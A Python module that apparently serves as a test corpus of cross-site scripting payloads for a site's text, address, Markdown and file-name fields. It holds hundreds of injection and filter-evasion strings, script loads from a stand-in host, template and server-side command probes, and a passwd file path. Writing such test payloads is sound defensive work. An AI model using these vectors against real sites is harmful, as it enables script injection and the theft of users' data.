"""What those try who want to have a script of theirs on a page of ours: texts for every field."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from functools import cache

# What is to run, and what it is brought in by.
_CALLS = ("alert(1)", "alert`1`", "confirm(document.domain)", "top['al'+'ert'](1)")
_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    "onpointerenter", "onbegin", "onpageshow", "onbeforematch", "onscrollend",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<details open {}>", "<input autofocus {}>",
    "<video src=x {}>", "<audio src=x {}>", "<iframe {}>", "<marquee {}>", "<a href=# {}>x</a>",
    "<select autofocus {}>", "<svg><animate {}/>", "<math><mi {}>", "<x-xss {} tabindex=1>",
)  # fmt: skip
# How one gets out of where the text stands.
_EXITS = (
    '">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>",
    '" ', "' ", "\\\">", "&quot;>", "{{", "{%", "${", "*/", "\u2028", "\u00a0\">", "`>",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "javascript://a.vn/%0aalert(1)",
    "javascript:alert(1)//https://a.vn", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://a.vn/1", "filesystem:https://a.vn/x", "view-source:https://a.vn", "file:///etc/passwd",
    "feed:javascript:alert(1)", "jar:https://a.vn!/x", "//xss.example/x.js", "\\\\xss.example\\x",
    "/\\xss.example/x", "https:xss.example", "///xss.example", "%6aavascript:alert(1)",
    "javas\u200bcript:alert(1)", "javascript\u003aalert(1)", "ｊavascript:alert(1)", "danvan:0",
    "danvan-document:1-nq-tw", "#\"onclick=alert(1)", "?q=\"><img src=x onerror=alert(1)>", "about:blank",
    "ws://xss.example", "intent://xss#Intent;end", "ms-word:ofe|u|https://xss.example", "x:\"onclick=alert(1)",
)  # fmt: skip
_MARKDOWN = (
    "[x]({})", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[x](<{}> 't')", "![x][r]\n\n[r]: <{}>",
    "[![x](a)]({})", "^[[x]({})]", "[x]( {} )",
)  # fmt: skip
_TRICKS = (
    "[x](a \"onclick=alert(1)\")", "![x\" onerror=\"alert(1)](a)", "![x](a 'y\" onerror=\"alert(1)')",
    "`<img src=x onerror=alert(1)>`", "```\"><img src=x onerror=alert(1)>\nx\n```", "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| x |", "|a|\n|:-\" onload=alert(1)|\n", "[^1]\n\n[^1]: <svg onload=alert(1)>",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x", "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;", "<a@b.vn\"onclick=alert(1)>",
    "<https://a.vn/\"onclick=alert(1)>", "[x](https://a.vn/\"onclick=alert(1))", "1. > <script>alert(1)</script>",
    "href=\"danvan:0\" onclick=alert(1)", "<img src=\"danvan:0\" onerror=alert(1)>", "10/2022/QH15\"><img src=x onerror=alert(1)>",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//xss.example/x.js></script>",
    "<script src=data:,alert(1)></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script>/*<!--<script>*/alert(1)</script>", "<<script>alert(1)//<</script>",
    "<base href=//xss.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//xss.example'>", "<meta charset=utf-7>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=//xss.example/x.css>", "<link rel=import href=//xss.example>", "<link rel=prefetch href=//xss.example/x>",
    "<link rel=dns-prefetch href=//xss.example>", "<style>@import'//xss.example/x.css'</style>", "<style>*{background:url(//xss.example/x)}</style>",
    "<p style=\"background:url(//xss.example/x)\">x</p>", "<p style='width:expression(alert(1))'>x", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//xss.example></iframe>", "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>", "<object data=//xss.example/x.swf></object>", "<embed src=javascript:alert(1)>",
    "<embed src=//xss.example/x.swf>", "<applet code=x>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>", "<form action=//xss.example><input name=q></form>",
    "<isindex action=javascript:alert(1)>", "<input type=image src=//xss.example/x formaction=javascript:alert(1)>",
    "<img src=//xss.example/x.png>", "<img srcset=//xss.example/x.png>", "<picture><source srcset=//xss.example/x></picture>",
    "<video poster=//xss.example/x></video>", "<audio src=//xss.example/x autoplay></audio>", "<track src=//xss.example/x>",
    "<table background=//xss.example/x><tr><td>x</table>", "<body background=//xss.example/x>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=# ping=//xss.example>x</a>", "<a href=https://a.vn target=x-xss>x</a>", "<area href=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#a></svg>", "<svg><image href=//xss.example/x></svg>", "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;", "<p id=noi_dung>x", "<p id=dia_chi_cu data-old='[0,[]]'>x", "<form id=search-form><input name=action>",
    "<a id=location name=location href=x>x</a>", "<img name=getElementById src=x>", "<p class=x-xss data-xss=1>x</p>", "<div is=x-xss>x</div>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>", "<dialog open onclose=alert(1)>x</dialog>", "<slot onslotchange=alert(1)>",
    "<portal src=//xss.example>", "<fencedframe src=//xss.example>", "<object type=text/x-scriptlet data=//xss.example>", "<bgsound src=javascript:alert(1)>",
    "<layer src=//xss.example>", "<keygen autofocus onfocus=alert(1)>", "<div onwheel=alert(1) style=position:fixed;inset:0>x</div>",
)  # fmt: skip
_WORDS = (
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}", "{% raw %}<img src=x onerror=alert(1)>{% endraw %}", "${alert(1)}", "#{alert(1)}",
    "<%= alert(1) %>", "';alert(1);//", "\";alert(1);//", "\\';alert(1);//", "</script><script>alert(1)</script>", "\u2028alert(1)\u2029",
    "<!--#exec cmd=\"id\"-->", "<?php system('id') ?>", "=HYPERLINK(\"//xss.example\")", "@SUM(1)|cmd", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<img src=x onerror=alert(1)>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "\u0130<img src=x onerror=alert(1)>",
    "__proto__", "constructor", "x\" autofocus onfocus=\"alert(1)", "x' autofocus onfocus='alert(1)", "x` onfocus=alert(1)`",
    "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip


@cache
def texts() -> tuple[str, ...]:
    """Return the vectors for places where a text is asked for, of which none is twice."""
    return tuple(dict.fromkeys(itertools.chain(_handled(), _left(), _MARKUP, _WORDS, _TRICKS)))


@cache
def addresses() -> tuple[str, ...]:
    """Return the vectors for places where an address is asked for."""
    return _SCHEMES


@cache
def bodies() -> tuple[str, ...]:
    """Return the vectors for bodies: all texts, and each address in each of Markdown's ways."""
    linked = (way.format(address) for way in _MARKDOWN for address in _SCHEMES)
    return tuple(dict.fromkeys((*texts(), *linked)))


def names() -> tuple[str, ...]:
    """Return the vectors that can be a file's name."""
    return tuple(
        text for text in texts() if not set(text) & set('/\\\0\n\r\t:*?"<>|') or _fits(text)
    )[:60]


def _fits(text: str) -> bool:
    return not set(text) & set("/\0\n\r\t\u2028\u2029") and len(text.encode()) < 200


def _handled() -> Iterator[str]:
    for number, (element, handler) in enumerate(itertools.product(_ELEMENTS, _HANDLERS)):
        yield element.format(f"{handler}={_CALLS[number % len(_CALLS)]}")


def _left() -> Iterator[str]:
    for way in _EXITS:
        yield f"x{way}<img src=x onerror=alert(1)>"
        yield f"x{way}onmouseover=alert(1) x-xss=1"
